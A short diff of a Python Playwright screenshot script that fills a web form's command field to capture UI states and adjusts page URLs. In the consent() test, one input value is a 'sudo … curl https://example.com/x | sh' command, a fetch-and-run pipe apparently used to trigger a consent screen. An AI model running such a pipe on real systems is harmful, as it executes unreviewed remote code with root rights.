@@ -71,13 +71,13 @@ def pages(base: str, origin: str, selected: int) -> dict[str, str]:
 
 
 def consent(page: Page, origin: str) -> None:
-    page.goto(origin)
+    page.goto(f"{origin}/")
     page.fill("#command_line", "sudo python server.py --root '/tmp/a b' -c 'curl https://example.com/x | sh'")
     page.get_by_role("button", name="Connect", exact=True).click()
 
 
 def lost(page: Page, origin: str) -> None:
-    page.goto(origin)
+    page.goto(f"{origin}/")
     page.fill("#command_line", shlex.join([sys.executable, "-c", "import sys; sys.exit('No such file: travel.py')"]))
     page.get_by_role("button", name="Connect", exact=True).click()
     if page.get_by_role("button", name="Start it").count():
@@ -116,7 +116,7 @@ def main(arguments: list[str]) -> int:
                     if name == "lost":
                         page.get_by_role("button", name="Close the session").click()
         stranger = browser.new_page()
-        stranger.goto(parley.origin)
+        stranger.goto(parley.server)
         stranger.screenshot(path=folder / "signed-out-wide-light.png")
         browser.close()
     print(f"{len(list(folder.glob('*.png')))} pictures in {folder}")
